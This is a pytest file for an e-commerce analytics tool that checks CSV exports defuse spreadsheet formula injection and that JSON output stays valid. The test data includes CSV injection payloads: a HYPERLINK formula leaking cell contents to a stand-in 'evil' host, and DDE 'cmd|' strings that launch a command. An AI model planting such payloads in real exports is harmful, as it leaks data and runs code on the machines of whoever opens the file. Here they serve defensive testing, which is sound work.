"""Every CSV the product writes defuses spreadsheet formulas (text cells only: numbers stay numbers), the importer
keeps a defusing leading tab, and every --json output is valid JSON (no NaN or Infinity)."""
from __future__ import annotations

import io
import json
import re
from datetime import date
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ecomops import db, exports
from ecomops.__main__ import main
from tests.conftest import PROJECT_ROOT
from tests.ingest_support import ORDERS_HEADER, write_csv

# (cell text, what a safe file holds)
CELLS = [
    ('=HYPERLINK("http://evil/?leak="&A1,"click")', '\'=HYPERLINK("http://evil/?leak="&A1,"click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"),          # a text that is a plain number: a spreadsheet reads the number, nothing runs
    ("+3.5e2", "+3.5e2"),
    ("Mug = cup", "Mug = cup"),
    ("杯子", "杯子"),
    ("", ""),
]
HOSTILE = [cell for cell, safe in CELLS if cell != safe]


@pytest.mark.parametrize("cell,safe", CELLS)
def test_defuse_rule_in_python_and_in_sql(cell, safe):
    assert exports.defuse(cell) == safe
    import duckdb
    assert duckdb.connect().execute(f"SELECT {exports.defuse_sql('$v')}", {"v": cell}).fetchone()[0] == safe


def _read(data: bytes, encoding: str = "utf-8-sig") -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding=encoding)


def _assert_no_formula(frame: pd.DataFrame) -> None:
    """No cell or header a spreadsheet would run: each starts with none of = + - @ tab CR, or is a plain number."""
    for value in [*frame.columns, *frame.to_numpy().ravel()]:
        value = str(value)
        assert not value.startswith(exports.FORMULA_STARTS) or re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", value), value


def test_downloads_defuse_text_and_keep_numbers():
    from ecomops.ui import downloads

    frame = pd.DataFrame({"title": [c for c, _ in CELLS], "amount": [-5.5] * len(CELLS), "units": [-3] * len(CELLS),
                          "day": [date(2024, 3, 5)] * len(CELLS)})
    frame["=HYPERLINK(\"x\")"] = "header"
    data = downloads.csv(frame, "utf-8-sig")()
    back = _read(data)
    assert back["title"].tolist() == [safe for _, safe in CELLS]
    assert back["amount"].tolist() == ["-5.5"] * len(CELLS) and back["units"].tolist() == ["-3"] * len(CELLS)
    assert back.columns[-1] == "'=HYPERLINK(\"x\")"
    _assert_no_formula(back)
    assert frame["title"].iloc[0].startswith("=")  # the caller's frame is not changed


def test_rfm_segment_download(tiny_con):
    from ecomops.users import rfm
    from ecomops.filters import Filters

    tiny_con.execute("UPDATE customers SET customer_id = '=HYPERLINK(\"http://evil\")' WHERE customer_id = 'A'")
    tiny_con.execute("UPDATE orders SET customer_id = '=HYPERLINK(\"http://evil\")' WHERE customer_id = 'A'")
    f = Filters(date(2024, 3, 1), date(2024, 3, 5))
    found = pd.concat([_read(rfm.rfm_segment_csv(tiny_con, f, s)) for s in rfm.RFM_SEGMENTS])
    assert "'=HYPERLINK(\"http://evil\")" in set(found["customer_id"])
    _assert_no_formula(found)


def test_import_rejects_file_defuses_the_rows_it_copies(tmp_path, capsys):
    rows = [["=cmd|' /C calc'!A0", "2024-01-02", "u1", "S1", "+1+1", "0", "3.5", "paid"],
            ["C2", "2024-01-02", "@SUM(1)", "S1", "\t=1+1", "2", "-3.5", "paid"],
            ["C3", "2024-01-02", "u3", "S1", "Cup", "2", "3.5", "paid"]]
    header = [*ORDERS_HEADER[:-1], "=status"]
    path = write_csv(tmp_path / "o.csv", header, rows)
    rejects = tmp_path / "rejects.csv"
    code = main(["import", str(path), "--db", str(tmp_path / "shop.duckdb"), "--map", "status==status",
                 "--skip-invalid", "--rejects", str(rejects), "--no-progress", "--currency", "CNY"])  # a new store says
    # its currency once (issue 15)
    db.close(tmp_path / "shop.duckdb")
    assert code == 0, capsys.readouterr()
    back = pd.read_csv(rejects, dtype=str, keep_default_na=False)
    assert back["order_id"].tolist() == ["'=cmd|' /C calc'!A0", "C2"]
    assert back["customer_id"].tolist() == ["u1", "'@SUM(1)"]
    assert back["product_name"].tolist() == ["'+1+1", "'\t=1+1"]
    assert back["unit_price"].tolist() == ["3.5", "-3.5"]  # a negative number stays a number
    assert "'=status" in back.columns
    _assert_no_formula(back)


def test_churn_out_file_is_defused(tmp_path, monkeypatch, capsys):
    """``churn score --out`` writes its list through the same rule (scored list stubbed: the writer is under test)."""
    from ecomops.users import churn
    from ecomops.users import targeting

    scored = pd.DataFrame({column: ["x"] for column in targeting.EXPORT_COLUMNS})
    scored["customer_id"] = ["=HYPERLINK(\"http://evil\")"]
    scored["recommendations"] = ["@SUM(1) | Mug"]
    for column in ("p_return", "expected_value"):
        scored[column] = [-0.5]
    monkeypatch.setattr(churn, "latest_usable_model", lambda con, progress=None: ({"model_id": 1}, None))
    monkeypatch.setattr(targeting, "stored_dormant", lambda con: scored)
    out = tmp_path / "targets.csv"
    main(["churn", "score", "--out", str(out), "--db", str(tmp_path / "c.duckdb")])
    db.close(tmp_path / "c.duckdb")
    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert back["customer_id"].tolist() == ["'=HYPERLINK(\"http://evil\")"]
    assert back["recommendations"].tolist() == ["'@SUM(1) | Mug"] and back["p_return"].tolist() == ["-0.5"]
    _assert_no_formula(back)


def test_every_csv_writer_goes_through_exports():
    """A census of the source: CSV and XLSX are written only by ecomops.exports (and the rejects COPY using it)."""
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer\(|COPY \(")
    found = {}
    for path in [*(PROJECT_ROOT / "ecomops").rglob("*.py"), *(PROJECT_ROOT / "pages").glob("*.py"),
                 PROJECT_ROOT / "app.py"]:
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if writers.search(line):
                found.setdefault(str(path.relative_to(PROJECT_ROOT)), []).append(number)
    # exports.py is the writer; the rejects COPY applies exports.defuse_sql; the workbook converter (xlsx_worker.py,
    # the child process that took over sniff.py's conversion) and a multi-file import (multifile.py, the joined
    # files) write temporary CSVs the import reads (inputs, never handed to anyone).
    # The warehouse export (engine/warehouse.py) writes Parquet, not a spreadsheet format.
    assert set(found) <= {"ecomops/exports.py", "ecomops/ingest/validate.py", "ecomops/ingest/sniff.py",
                          "ecomops/ingest/xlsx_worker.py", "ecomops/ingest/multifile.py",
                          "ecomops/engine/warehouse.py"}, found
    assert "exports.defuse_sql" in (PROJECT_ROOT / "ecomops/ingest/validate.py").read_text(encoding="utf-8")


def test_importer_keeps_a_leading_tab_of_free_text(tmp_path):
    """A leading tab defuses a formula in the source file; the importer keeps it (ids and numbers are still trimmed)."""
    from ecomops.ingest import import_file

    con = db.connect_memory()
    path = write_csv(tmp_path / "products.csv", ["sku", "title", "category", "price"],
                     [["\tP1", "\t=HYPERLINK(\"http://evil\")", " Kitchen ", "\t10"],
                      ["P2", "  \tMug\t ", "\tKitchen", "5"]])
    result = import_file(con, path)
    assert result.status == "imported", result.errors
    rows = con.execute("SELECT product_id, title, category, price FROM products ORDER BY 1").fetchall()
    assert rows == [("P1", "\t=HYPERLINK(\"http://evil\")", "Kitchen", 10.0), ("P2", "\tMug", "\tKitchen", 5.0)]
    downloaded = _read(exports.csv_bytes(pd.DataFrame(rows, columns=["id", "title", "category", "price"])))
    assert downloaded["title"].tolist() == ["'\t=HYPERLINK(\"http://evil\")", "'\tMug"]


# ------------------------------------------------------------------------------------------------------- JSON

def test_json_text_turns_non_finite_numbers_into_null():
    payload = {"gmv": float("inf"), "aov": np.float64("nan"), "orders": np.int64(3), "day": date(2024, 3, 5),
               "series": pd.Series([1.0, -np.inf]), "nested": [{"x": float("-inf")}], "missing": pd.NaT}
    text = exports.json_text(payload)
    assert "Infinity" not in text and "NaN" not in text
    assert json.loads(text) == {"gmv": None, "aov": None, "orders": 3, "day": "2024-03-05", "series": [1.0, None],
                                "nested": [{"x": None}], "missing": None}


def test_kpis_json_is_valid_with_an_absurd_price(tmp_path, capsys):
    """A unit price of 1e308 overflows GMV to infinity: ``kpis --json`` prints null, never Infinity."""
    path = tmp_path / "k.duckdb"
    con = db.connect(path)
    con.execute("INSERT INTO orders (order_id, customer_id, order_ts, order_date, status) VALUES "
                "('O1', 'A', TIMESTAMP '2024-01-01 10:00', DATE '2024-01-01', 'paid')")
    con.execute("INSERT INTO order_items (order_id, line_no, product_id, quantity, unit_price) VALUES "
                "('O1', 1, 'P1', 10, 1e308)")
    code = main(["kpis", "--db", str(path), "--json"])
    db.close(path)
    out = capsys.readouterr().out
    assert code == 0 and "Infinity" not in out and "NaN" not in out
    payload = json.loads(out, parse_constant=lambda name: pytest.fail(f"{name} in JSON"))
    assert payload["gmv"] is None and payload["orders"] == 1


def test_sql_json_is_valid(tmp_path, capsys):
    path = tmp_path / "s.duckdb"
    db.connect(path)
    code = main(["sql", "SELECT 'inf'::DOUBLE AS a, 'nan'::DOUBLE AS b, 1.5 AS c, DATE '2024-03-05' AS d", "--db",
                 str(path), "--json"])
    db.close(path)
    out = capsys.readouterr().out
    assert code == 0
    assert json.loads(out, parse_constant=lambda name: pytest.fail(f"{name} in JSON")) == [
        {"a": None, "b": None, "c": 1.5, "d": "2024-03-05T00:00:00"}]
